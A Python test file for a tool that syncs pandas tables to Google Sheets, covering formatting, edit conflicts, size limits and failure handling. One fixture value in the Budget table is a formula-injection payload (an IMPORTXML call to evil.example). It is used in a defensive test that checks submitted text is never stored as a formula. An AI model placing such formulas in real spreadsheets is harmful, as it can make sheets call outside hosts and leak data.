"""Push through real gspread to the schema-checked stand-in: layout, safety, conflicts, counts."""
# ruff: noqa: F811  (pytest fixtures imported from sheets_fixtures are parameters here)

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from sheets_fixtures import client, sa_key, sleeps, standin  # noqa: F401
from sheets_standin import Fault, StandIn

from finsam_xl.errors import SheetsSyncError
from finsam_xl.sheets import SheetsClient, connect, push_tables
from finsam_xl.sheets.pull import pull_tables
from finsam_xl.sheets.state import OWNED_KEY, STAGING_KEY

SID = "oversikt-1"


def seed_tables(rows: int = 5000) -> dict[str, pd.DataFrame]:
    """Three made-up overview tables; one long, with every dtype push must handle."""
    insatser = pd.DataFrame(
        {
            "Insats": [f"Insats {i}" for i in range(rows)],
            "Förbund": ["Samordningsförbundet Test"] * rows,
            "Beviljat (kr)": [1_000_000 + i for i in range(rows)],
            "Utfall (kr)": [85000.5 + i for i in range(rows)],
            "Period t.o.m.": [date(2024, 3, 31)] * rows,
        }
    )
    budget = pd.DataFrame(
        {
            "Kostnadsslag": ["Lönekostnader", "Lokalkostnader", "Övrigt"],
            "Budget": [Decimal("1600000.00"), Decimal("240000.50"), None],
            "Kommentar": ['=IMPORTXML("http://evil.example","//a")', "", "ok"],
            "Från": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
        }
    )
    avvikelser = pd.DataFrame({"Insats": ["A", "B"], "Antal": [1, 2], "Godkänd": [True, False]})
    return {"Översikt": insatser, "Budget": budget, "Avvikelser": avvikelser}


def test_push_writes_owned_sheets_in_a_handful_of_requests(standin: StandIn, sa_key: Path) -> None:
    # A timeout no busy machine reaches: a slow answer retried would change the count.
    client = connect(credentials=str(sa_key), session=standin.session(), timeout=600.0)
    standin.create_book(SID, sheets=("Egna anteckningar",))
    standin.edit(SID, "'Egna anteckningar'!A1", "mitt")
    result = push_tables(client, SID, seed_tables())
    assert result.rows == {"Översikt": 5000, "Budget": 3, "Avvikelser": 2}
    assert result.requests == standin.count() == 6
    book = standin.books[SID]
    titles = [s.title for s in book.sheets]
    assert titles == ["Egna anteckningar", "Översikt", "Budget", "Avvikelser"]  # no staging left
    assert book.sheet_by_title("Egna anteckningar").cells[(0, 0)].value == "mitt"
    sheet = book.sheet_by_title("Översikt")
    assert sheet.rows == 5001 and sheet.cols == 5
    assert sheet.properties["gridProperties"]["frozenRowCount"] == 1
    assert sheet.cells[(0, 0)].fmt["textFormat"]["bold"] is True
    assert sheet.cells[(1, 2)].fmt["numberFormat"] == {"type": "NUMBER", "pattern": "#,##0"}
    assert sheet.cells[(1, 4)].fmt["numberFormat"]["type"] == "DATE"
    assert sheet.cells[(1, 4)].value == 45382  # 2024-03-31 as a serial number
    assert any(m["metadataKey"] == OWNED_KEY for m in sheet.metadata)
    assert not any(m["metadataKey"] == STAGING_KEY for s in book.sheets for m in s.metadata)


def test_submitter_text_never_becomes_a_formula(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(3))
    cell = standin.books[SID].sheet_by_title("Budget").cells[(1, 2)]
    assert cell.formula is None
    assert cell.value.startswith("=IMPORTXML(")


def test_round_trip_gives_identical_tables(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    tables = seed_tables(50)
    push_tables(client, SID, tables)
    back = pull_tables(client, SID)
    assert list(back) == list(tables)
    pd.testing.assert_frame_equal(back["Översikt"], tables["Översikt"], check_dtype=False)
    pd.testing.assert_frame_equal(back["Avvikelser"], tables["Avvikelser"], check_dtype=False)
    budget = back["Budget"]
    assert budget["Budget"].tolist()[:2] == [1600000.0, 240000.5]
    kommentar = budget["Kommentar"].tolist()
    assert kommentar[0] == tables["Budget"]["Kommentar"][0] and kommentar[2] == "ok"
    assert pd.isna(kommentar[1])  # an empty cell comes back empty
    assert budget["Från"].tolist()[:2] == [date(2024, 1, 1), date(2024, 2, 1)]


def test_second_push_over_unchanged_sheet_is_allowed(
    standin: StandIn, client: SheetsClient
) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(10))
    sheet_id = standin.books[SID].sheet_by_title("Översikt").id
    standin.edit(SID, "'Översikt'!A1", "Insats")  # same value typed again: no change
    result = push_tables(client, SID, seed_tables(20))
    assert result.rows["Översikt"] == 20
    assert standin.books[SID].sheet_by_title("Översikt").id == sheet_id  # links keep working


def test_edited_sheet_is_refused_then_overwritten_with_force(
    standin: StandIn, client: SheetsClient
) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(10))
    standin.edit(SID, "Budget!B2", "999")
    before = standin.books[SID].sheet_by_title("Budget").cells[(1, 1)].value
    with pytest.raises(SheetsSyncError, match=r"skrivit i 'Budget'.*--force") as err:
        push_tables(client, SID, seed_tables(10))
    assert err.value.spreadsheet_id == SID
    book = standin.books[SID]
    assert book.sheet_by_title("Budget").cells[(1, 1)].value == before  # untouched
    assert not any(s.properties.get("hidden") for s in book.sheets)  # staging cleaned up
    push_tables(client, SID, seed_tables(10), force=True)
    assert standin.books[SID].sheet_by_title("Budget").cells[(1, 1)].value == 1600000


def test_edit_racing_the_push_is_caught(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(10))
    # Someone types while the values are being staged, after push first read the sheet.
    standin.hooks.append(
        ("drive.files.get", lambda s: s.edit(SID, "'Översikt'!A3", "ändrat av någon"))
    )
    with pytest.raises(SheetsSyncError, match="Någon har skrivit i 'Översikt'"):
        push_tables(client, SID, seed_tables(10))
    assert standin.books[SID].sheet_by_title("Översikt").cells[(2, 0)].value == "ändrat av någon"


def test_foreign_sheet_with_same_title_is_never_touched(
    standin: StandIn, client: SheetsClient
) -> None:
    standin.create_book(SID, sheets=("Budget",))
    standin.edit(SID, "Budget!A1", "personens egen budget")
    with pytest.raises(SheetsSyncError, match="skapades inte av finsam-xl"):
        push_tables(client, SID, seed_tables(3))
    book = standin.books[SID]
    assert [s.title for s in book.sheets] == ["Budget"]
    assert standin.count("sheets.spreadsheets.batchUpdate") == 0


def test_grid_too_small_is_grown(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(10))  # an owned sheet of 11 rows
    push_tables(client, SID, seed_tables(3000))
    sheet = standin.books[SID].sheet_by_title("Översikt")
    assert sheet.rows == 3001
    assert sheet.cells[(3000, 0)].value == "Insats 2999"


def test_value_over_50000_characters_is_cut_and_reported(
    standin: StandIn, client: SheetsClient
) -> None:
    standin.create_book(SID)
    long = pd.DataFrame({"Text": ["x" * 60_000, "kort"]})
    result = push_tables(client, SID, {"Långt": long})
    stored = standin.books[SID].sheet_by_title("Långt").cells[(1, 0)].value
    assert len(stored) == 50_000
    assert stored.endswith("[avkortad av finsam-xl: mer än 50 000 tecken]")
    assert result.warnings and "rad 2" in result.warnings[0]


def test_too_many_cells_is_refused_before_writing(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    wide = pd.DataFrame({f"k{i}": range(300_000) for i in range(20)})
    with pytest.raises(SheetsSyncError, match="rymmer"):
        push_tables(client, SID, {"Stor": wide})
    assert standin.count("sheets.spreadsheets.batchUpdate") == 0


def test_failed_write_leaves_the_sheet_as_it_was(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(10))
    version = standin.books[SID].version
    snapshot = dict(standin.books[SID].sheet_by_title("Översikt").cells)
    standin.faults.append(
        Fault(
            "sheets.spreadsheets.values.batchUpdate",
            status=502,
            body="<html><body>Bad Gateway</body></html>",
            times=99,
        )
    )
    with pytest.raises(SheetsSyncError, match="502") as err:
        push_tables(client, SID, seed_tables(20))
    assert "<html>" not in str(err.value)
    book = standin.books[SID]
    assert book.sheet_by_title("Översikt").cells.keys() == snapshot.keys()
    assert [s.title for s in book.sheets] == ["Blad1", "Översikt", "Budget", "Avvikelser"]
    assert book.version > version  # staging came and went; the owned sheets did not change


def test_final_step_timing_out_after_google_applied_it_counts_as_done(
    standin: StandIn, client: SheetsClient
) -> None:
    standin.create_book(SID)
    push_tables(client, SID, seed_tables(5))
    client.http.set_timeout(0.5)
    # First the staging batchUpdate passes; the final one is applied but answered too late.
    standin.faults.append(Fault("sheets.spreadsheets.batchUpdate", times=1, passthrough=True))
    standin.faults.append(
        Fault("sheets.spreadsheets.batchUpdate", delay=1.0, times=1, passthrough=True)
    )
    result = push_tables(client, SID, seed_tables(7))
    assert result.rows["Översikt"] == 7
    assert standin.books[SID].sheet_by_title("Översikt").rows == 8


def test_progress_lines(standin: StandIn, client: SheetsClient) -> None:
    standin.create_book(SID)
    lines: list[str] = []
    push_tables(client, SID, seed_tables(10), progress=lines.append)
    assert lines[0].startswith("Läser") and lines[-1] == "Klart."
    assert any(line.startswith("Skriver värden 1/1") for line in lines)
